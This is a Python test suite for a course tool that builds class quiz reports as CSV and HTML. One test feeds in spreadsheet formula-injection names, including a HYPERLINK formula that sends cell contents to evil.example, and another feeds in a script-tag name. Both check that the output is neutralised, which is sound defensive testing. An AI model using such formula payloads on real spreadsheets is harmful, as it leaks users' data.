"""The class report: `python -m runwell report FILES… [--csv OUT] [--html OUT]`, graded against
the current banks."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from runwell import NOTICE, course
from runwell.cli import main
from runwell.report import build_report, html_page, load_learner_file, read_files

ROOT = Path(__file__).resolve().parents[1]
MODEL = course.load(ROOT)
REVIEW = MODEL.bank("06_review")
# three real questions of the review quiz, in bank order
Q1, Q2, Q3 = [q for q in REVIEW.questions if q.type in ("single", "true_false")][:3]
WARM = next(q for q in MODEL.bank("01_warm_up").questions if q.type == "single")


def right(q: Any) -> list[str]:
    return sorted(q.correct_ids)


def wrong(q: Any) -> list[str]:
    return [next(c.id for c in q.shown if not c.correct)]


def progress(answers: dict[str, dict[str, tuple[bool, int]]], learner: str | None = None,
             version: int = 2) -> dict:
    """A progress file; each answer given as (right?, attempts), for the real question ids."""
    lookup = {q.id: q for b in MODEL.banks.values() for q in b.questions}
    data: dict[str, Any] = {
        "format": "runwell-progress",
        "version": version,
        "answers": {
            lesson: {
                qid: {"answer": (right if ok else wrong)(lookup[qid]) if qid in lookup else ["x"],
                      "time": f"2025-01-0{tries}T10:00:00Z", "attempts": tries}
                for qid, (ok, tries) in qs.items()
            }
            for lesson, qs in answers.items()
        },
    }
    if learner is not None:
        data["learner"] = learner
    return data


def write(path: Path, data: object) -> Path:
    path.write_text(json.dumps(data) if not isinstance(data, str) else data, encoding="utf-8")
    return path


@pytest.fixture
def klass(tmp_path: Path) -> list[Path]:
    """Three learners; Q2 of the review is the one the class misses."""
    return [
        write(tmp_path / "ana.json", progress(
            {"06_review": {Q1.id: (True, 1), Q2.id: (False, 2)},
             "01_warm_up": {WARM.id: (True, 1)}},
            learner="Ana",
        )),
        write(tmp_path / "ben.json",
              progress({"06_review": {Q1.id: (True, 3), Q2.id: (False, 1)}})),
        write(tmp_path / "cy.json", progress({"06_review": {Q2.id: (True, 1)}}, learner="")),
    ]


def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str, str]:
    status = main(["report", *map(str, argv)])
    out, err = capsys.readouterr()
    return status, out, err


def test_per_question_and_per_learner_tables(klass: list[Path]) -> None:
    files, skipped = read_files(klass, MODEL)
    report = build_report(files, MODEL, skipped)
    assert skipped == []
    rows = {(q.lesson, q.question): (q.answered, q.correct, q.attempts) for q in report.questions}
    assert rows == {
        ("01_warm_up", WARM.id): (1, 1, 1),
        ("06_review", Q1.id): (2, 2, 4),
        ("06_review", Q2.id): (3, 1, 4),
    }
    q2 = next(q for q in report.questions if q.question == Q2.id)
    assert q2.percent_correct == pytest.approx(100 / 3)
    assert q2.text == " ".join(Q2.text.split())
    learners = {s.learner: (s.answered, s.correct, s.lessons, s.last_answer)
                for s in report.learners}
    # the name comes from the "learner" field, else (missing or blank) from the file name
    assert learners == {
        "Ana": (3, 2, 2, "2025-01-02T10:00:00Z"),
        "ben": (2, 1, 1, "2025-01-03T10:00:00Z"),
        "cy": (1, 1, 1, "2025-01-01T10:00:00Z"),
    }
    assert [q.question for q in report.most_missed()] == [Q2.id]


def test_questions_follow_bank_order(klass: list[Path]) -> None:
    files, _ = read_files(klass, MODEL)
    order = [q.question for q in build_report(files, MODEL).questions if q.lesson == "06_review"]
    bank_order = [q.id for q in REVIEW.questions if q.id in order]
    assert order == bank_order


def test_cli_prints_tables_and_writes_csv(klass: list[Path], tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    out_csv = tmp_path / "out" / "class.csv"
    status, out, err = run(capsys, *klass, "--csv", out_csv)
    assert status == 0
    assert "Per question" in out and "Per learner" in out
    assert re.search(rf"06_review\s+{Q2.id}\s+3\s+1\s+33\.3", out)
    rows = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8"))))
    assert {(r["lesson"], r["question"], r["answered"], r["correct"], r["percent_correct"])
            for r in rows} == {
        ("01_warm_up", WARM.id, "1", "1", "100.0"),
        ("06_review", Q1.id, "2", "2", "100.0"),
        ("06_review", Q2.id, "3", "1", "33.3"),
    }
    per_learner = list(csv.DictReader(
        io.StringIO((tmp_path / "out" / "class-learners.csv").read_text(encoding="utf-8"))))
    assert [(r["learner"], r["answered"], r["correct"]) for r in per_learner] == [
        ("Ana", "3", "2"), ("ben", "2", "1"), ("cy", "1", "1")]
    assert "wrote" in err


def test_a_corrected_key_regrades_every_learner(klass: list[Path], tmp_path: Path) -> None:
    root = tmp_path / "course"
    shutil.copytree(ROOT / "notebooks" / "quizzes", root / "notebooks" / "quizzes")
    bank = root / "notebooks" / "quizzes" / "06_review.yaml"
    text = bank.read_text(encoding="utf-8")
    start = text.index(f"  - id: {Q2.id}\n")
    end = text.find("\n  - id: ", start + 1)
    end = len(text) if end < 0 else end
    block = text[start:end]
    # swap the key: the first wrong choice becomes right, the right one wrong
    new_right = wrong(Q2)[0]
    old_right = right(Q2)[0]
    lines = block.split("\n")
    out, current = [], None
    for line in lines:
        m = re.match(r"\s+- id: (\S+)", line) or re.match(r'\s+- text: "(True|False)"', line)
        if m:
            current = m.group(1).lower()
        if line.strip() == "correct: true" and current == old_right:
            continue
        out.append(line)
        if current == new_right and re.match(r"\s+(text|  text): ", line.replace("- ", "  ")):
            indent = re.match(r"(\s*)", line.replace("- ", "  ")).group(1)  # type: ignore[union-attr]
            out.append(f"{indent}correct: true")
            current = None
    bank.write_text(text[:start] + "\n".join(out) + text[end:], encoding="utf-8")
    corrected = course.load(root)
    assert corrected.bank("06_review").question(Q2.id).correct_ids == {new_right}  # type: ignore[union-attr]
    files, _ = read_files(klass, corrected)
    q2 = next(q for q in build_report(files, corrected).questions if q.question == Q2.id)
    assert (q2.answered, q2.correct) == (3, 2)  # Ana and Ben's answers are right now


def test_answers_that_no_longer_fit_are_listed_not_counted(tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]
                                                           ) -> None:
    data = progress({"06_review": {Q1.id: (True, 1), "review-gone": (True, 1)}}, "Dee")
    data["answers"]["06_review"][Q2.id] = {"answer": ["removed-choice"], "attempts": 1}
    status, out, _ = run(capsys, write(tmp_path / "dee.json", data))
    assert status == 0
    assert "Answers not counted (2)" in out
    assert f"Dee: 06_review: {Q2.id}: a chosen answer is no longer one of the question's" in out
    assert "Dee: 06_review: review-gone: no such question in the lesson's quiz" in out
    assert re.search(r"Dee\s+\S*dee\.json\s+1\s+1\s+100\.0\s+1\s+\S+\s+2", out)


def test_a_version_1_file_is_migrated_and_graded(tmp_path: Path) -> None:
    v1 = Path(__file__).parent / "fixtures" / "progress" / "v1_made_by_runwell_0.1.0.json"
    learner = load_learner_file(v1, MODEL)
    assert len(learner.records) + len(learner.orphans) == 49
    assert learner.learner == "Ana Lucía (v1)"


BAD_FILES = {
    "notes.json": ({"todo": []}, "not a runwell progress file"),
    "list.json": ([1, 2], "not a runwell progress file"),
    "truncated.json": ('{"format": "runwell-progress", "vers', "not valid JSON"),
    "latin1.json": (None, "not UTF-8"),
    "future.json": ({"format": "runwell-progress", "version": 9, "answers": {}},
                    "written by a newer runwell"),
    "answers.json": ({"format": "runwell-progress", "version": 2, "answers": []},
                     "'answers' is not an object"),
    "correct.json": ({"format": "runwell-progress", "version": 1,
                      "answers": {"06_review": {"q1": {"answer": "x", "correct": "yes"}}}},
                     "answers.06_review.q1: 'correct' is missing or not true/false"),
    "attempts.json": ({"format": "runwell-progress", "version": 2,
                       "answers": {"06_review": {"q1": {"answer": ["a"], "attempts": -1}}}},
                      "answers.06_review.q1: 'attempts'"),
    "name.json": ({"format": "runwell-progress", "version": 2, "learner": 7, "answers": {}},
                  "'learner' is not a short text"),
}


def test_malformed_and_foreign_files_are_skipped_with_one_line_each(
    klass: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = []
    for name, (content, _) in BAD_FILES.items():
        path = tmp_path / "bad" / name
        path.parent.mkdir(exist_ok=True)
        if content is None:
            path.write_bytes(b'{"learner": "Jos\xe9"}')
        else:
            write(path, content)
        bad.append(path)
    before = {p: p.read_bytes() for p in bad}
    status, out, err = run(capsys, *klass, *bad, tmp_path / "missing.json")
    assert status == 0
    lines = [line for line in err.splitlines() if "skipped" in line]
    assert len(lines) == len(BAD_FILES) + 1
    for name, (_, reason) in BAD_FILES.items():
        line = next(line for line in lines if f"{name}: skipped:" in line)
        assert reason in line, line
    assert any("missing.json: skipped: no such file" in line for line in lines)
    assert "Traceback" not in err
    assert "3 learners" in out
    # reading only: learners' files are never changed, moved aside or "repaired"
    assert {p: p.read_bytes() for p in bad} == before
    assert sorted(p.name for p in (tmp_path / "bad").iterdir()) == sorted(BAD_FILES)


def test_no_readable_file_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = run(capsys, write(tmp_path / "x.json", {"a": 1}))
    assert status == 1
    assert out == ""
    assert err.splitlines()[-1] == "runwell report: no readable progress file among the 1 given"


def test_folders_expand_and_duplicate_names_are_told_apart(tmp_path: Path) -> None:
    # collected from JupyterHub home folders: every file is called progress.json
    for user in ("u1", "u2"):
        (tmp_path / user).mkdir()
        write(tmp_path / user / "progress.json", progress({"06_review": {Q1.id: (True, 1)}}))
    files, skipped = read_files([tmp_path, tmp_path / "u1" / "progress.json"], MODEL)
    assert len(files) == 2 and skipped == []  # the file named twice is read once
    names = [s.learner for s in build_report(files, MODEL).learners]
    assert len(set(names)) == 2
    assert all(n.startswith("progress (") for n in names)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_page_is_accessible_self_contained_and_escaped(
    klass: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(klass[0], progress({"06_review": {Q2.id: (False, 1)}}, learner="<script>x</script>"))
    out_html = tmp_path / "report.html"
    status, _, _ = run(capsys, *klass, "--html", out_html)
    assert status == 0
    page = out_html.read_text(encoding="utf-8")
    parsed = _Page()
    parsed.feed(page)
    tags = [t for t, _ in parsed.tags]
    assert "script" not in tags and "<script>x" not in page  # escaped, and no JavaScript
    assert not re.search(r"(src|href)=", page)  # nothing fetched from anywhere
    assert re.findall(r"https?://[^\s\"']+", page) == ["http://www.w3.org/2000/svg"]
    assert "<title>Running Without Back Pain: class report</title>" in page
    svg = next(a for t, a in parsed.tags if t == "svg")
    assert svg["role"] == "img" and svg["aria-labelledby"] == "chart-title chart-desc"
    assert re.search(rf'<desc id="chart-desc">06_review {Q2.id}: 2 of 3 missed', page)
    # the chart's figures are also in a table (the fallback for screen readers and print)
    assert "<caption>Most-missed questions</caption>" in page
    assert tags.count("table") == 3 and ("th", {"scope": "col"}) in parsed.tags
    assert NOTICE in page
    assert "&lt;script&gt;x&lt;/script&gt;" in page


def test_html_without_misses_has_no_chart(tmp_path: Path) -> None:
    files, _ = read_files([write(tmp_path / "a.json",
                                 progress({"06_review": {Q1.id: (True, 1)}}))], MODEL)
    page = html_page(build_report(files, MODEL))
    assert "<svg" not in page and "nothing to chart" in page


def test_chart_shows_the_worst_ten_worst_first(tmp_path: Path) -> None:
    questions = [q for b in MODEL.usable_banks.values() for q in b.questions
                 if q.type != "numeric"][:16]
    easy, hard = questions[0], questions[1:]
    learners = []
    for n in range(15):
        answers: dict[str, dict[str, tuple[bool, int]]] = {}
        lesson_of = {q.id: name for name, b in MODEL.banks.items() for q in b.questions}
        answers.setdefault(lesson_of[easy.id], {})[easy.id] = (True, 1)
        for k, q in enumerate(hard):
            answers.setdefault(lesson_of[q.id], {})[q.id] = (n < k, 1)
        learners.append(write(tmp_path / f"l{n}.json", progress(answers)))
    files, _ = read_files(learners, MODEL)
    worst = build_report(files, MODEL).most_missed()
    assert [q.question for q in worst] == [q.id for q in hard[:10]]
    assert html_page(build_report(files, MODEL)).count('class="bar"') == 10


records = st.dictionaries(
    st.sampled_from([Q1.id, Q2.id, Q3.id]), st.tuples(st.booleans(), st.integers(1, 5)),
    max_size=3,
)


@settings(max_examples=40, deadline=None)
@given(st.lists(records, min_size=1, max_size=6))
def test_totals_agree_between_the_two_tables(class_answers: list[dict]) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        paths = [write(Path(tmp) / f"{n}.json", progress({"06_review": a}))
                 for n, a in enumerate(class_answers)]
        report = build_report([load_learner_file(p, MODEL) for p in paths], MODEL)
    assert sum(q.answered for q in report.questions) == sum(s.answered for s in report.learners)
    assert sum(q.correct for q in report.questions) == sum(s.correct for s in report.learners)
    assert all(0 <= q.percent_correct <= 100 for q in report.questions)
    assert len(report.learners) == len(class_answers)


def test_the_benchmark_runs_a_thousand_learners() -> None:
    result = subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "bench_report.py"), "--learners", "1000"],
        capture_output=True, text=True, timeout=300, check=False,
    )
    print(result.stdout)
    assert result.returncode == 0, result.stderr
    assert "learners read      1000 (2 files skipped)" in result.stdout


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]
                                                           ) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)",
               "\tcmd", "\rcmd"]
    paths = [write(tmp_path / f"h{n}.json",
                   progress({"06_review": {Q1.id: (True, 1)}}, learner=name))
             for n, name in enumerate(hostile)]
    out = tmp_path / "class.csv"
    assert run(capsys, *paths, "--csv", out)[0] == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "class-learners.csv").read_text())))
    assert len(rows) == 1 + len(hostile)
    for row in rows[1:]:
        # the learner name is text, never a formula (tabs and returns are folded away first)
        assert row[0].startswith("'") or row[0].startswith("cmd ("), row
        for cell in row[2:6]:  # numbers stay numbers
            float(cell)
    for row in csv.reader(io.StringIO(out.read_text())):
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_html_report_is_refused_over_its_own_input_and_over_files_it_did_not_write(
    klass: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = klass[0].read_bytes()
    status, _, err = run(capsys, *klass, "--html", klass[0])
    assert status == 1 and klass[0].read_bytes() == before
    assert "is one of the progress files being read" in err and err.count("\n") == 1
    mine = tmp_path / "notes.html"
    mine.write_text("<p>my lesson plan</p>")
    status, _, err = run(capsys, *klass, "--html", mine)
    assert status == 1 and mine.read_text() == "<p>my lesson plan</p>"
    assert "was not written by `runwell report`" in err
    ours = tmp_path / "class.html"
    assert run(capsys, *klass, "--html", ours)[0] == 0
    assert run(capsys, *klass, "--html", ours)[0] == 0  # its own earlier report: replaced


@pytest.mark.browser
def test_html_report_in_chromium_has_no_axe_violation_and_no_request(
    klass: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str], chromium
) -> None:
    from axe_playwright_python.sync_playwright import Axe
    from playwright.sync_api import Route

    out_html = tmp_path / "report.html"
    assert run(capsys, *klass, "--html", out_html)[0] == 0
    requests: list[str] = []
    context = chromium.new_context()
    try:
        page = context.new_page()

        def only_the_file(route: Route) -> None:
            requests.append(route.request.url)
            if route.request.url.startswith("file:"):
                route.continue_()
            else:
                route.abort()

        page.route("**/*", only_the_file)
        page.goto(out_html.as_uri())
        violations = Axe().run(page).response["violations"]
        bars = page.locator("svg rect.bar").count()
        svg_name = page.locator("svg[role=img]").get_attribute("aria-labelledby")
    finally:
        context.close()
    assert [r for r in requests if not r.startswith("file:")] == []
    assert violations == [], [(v["id"], v["help"]) for v in violations]
    assert bars == 1 and svg_name == "chart-title chart-desc"
